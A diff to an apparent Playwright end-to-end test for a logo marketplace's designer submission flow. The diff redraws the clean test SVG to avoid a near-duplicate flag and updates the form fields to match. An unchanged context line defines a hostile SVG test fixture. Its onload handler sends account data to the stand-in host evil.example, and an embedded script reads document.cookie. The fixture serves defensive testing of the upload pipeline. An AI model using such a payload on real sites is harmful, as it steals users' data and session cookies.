@@ -14,8 +14,14 @@ import { CONSOLE_PASSWORD, operatorEmail, signIn } from "./console-helpers.ts";
 const SCREENS = ".cache/screens/issue34-designers";
 const SIZES = { desktop: { width: 1280, height: 800 }, phone: { width: 390, height: 844 } } as const;
 
-/** A drawn mark of its own (a staircase with a window, unlike any catalogue mark): transparent, plain paths. */
-const CLEAN_SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200"><path fill="#1e3a8a" fill-rule="evenodd" d="M20 180V140H60V100H100V60H140V20H180V180ZM130 120h30v30h-30z"/><rect x="24" y="24" width="30" height="30" fill="#f59e0b"/></svg>`;
+/**
+ * A drawn mark of its own: a staircase in one line with an amber step, transparent, plain
+ * paths. Drawn as a line, not a solid block: the review compares inked cells, and a solid
+ * staircase filled half its square, so it came within 0.55 of a catalogue mark and once
+ * within 0.62 of a generated logo another test had sold (flagged, rightly, as a
+ * near-duplicate). This one comes within 0.14 of the catalogue's nearest.
+ */
+const CLEAN_SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200"><path fill="none" stroke="#1e3a8a" stroke-width="8" stroke-linejoin="round" d="M20 180V140H60V100H100V60H140V20H180"/><rect x="150" y="150" width="16" height="16" fill="#f59e0b"/></svg>`;
 const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" onload="fetch('/account/data.json').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))"><script>alert(document.cookie)</script><circle cx="100" cy="100" r="60" fill="red"/></svg>`;
 
 async function contextWithoutJavaScript(browser: Browser, size: { width: number; height: number } = SIZES.desktop) {
@@ -27,8 +33,8 @@ async function submit(page: Page, file: { name: string; mimeType: string; body: 
   await page.getByLabel("Logo file").setInputFiles({ name: file.name, mimeType: file.mimeType, buffer: Buffer.from(file.body) });
   await page.getByLabel("Logo name").fill(name);
   await page.getByLabel("Category").selectOption("Abstract");
-  await page.getByLabel("Tags").fill("ring, bar, bold");
-  await page.getByLabel("Description").fill("A deep blue ring crossed by an amber bar, for a bold studio.");
+  await page.getByLabel("Tags").fill("stairs, line, step");
+  await page.getByLabel("Description").fill("A deep blue staircase in one line with an amber step, for a studio that builds.");
   const posted = page.waitForResponse((response) => response.request().method() === "POST" && new URL(response.url()).pathname === "/designer/submit");
   await page.getByRole("button", { name: "Submit for review" }).click();
   return (await posted).status();
@@ -42,7 +48,7 @@ test.describe("designers sell here for real", () => {
     const stamp = Date.now().toString(36);
     const designerEmail = `designer.${stamp}@example.com`;
     const publicName = `Ines Marlow ${stamp}`;
-    const logoName = `Amber Ring ${stamp}`;
+    const logoName = `Amber Step ${stamp}`;
 
     // The designer finds "Start selling" on Sell Logos and makes an account with a designer profile.
     const designerContext = await contextWithoutJavaScript(browser);
@@ -62,7 +68,7 @@ test.describe("designers sell here for real", () => {
     await expect(designer.getByRole("heading", { level: 1, name: publicName })).toBeVisible();
 
     // A clean SVG goes into review.
-    expect(await submit(designer, { name: "amber-ring.svg", mimeType: "image/svg+xml", body: CLEAN_SVG }, logoName)).toBe(303);
+    expect(await submit(designer, { name: "amber-step.svg", mimeType: "image/svg+xml", body: CLEAN_SVG }, logoName)).toBe(303);
     const logos = designer.getByRole("region", { name: "Your logos" });
     await expect(logos.getByRole("listitem").filter({ hasText: logoName })).toContainText("In review");
 
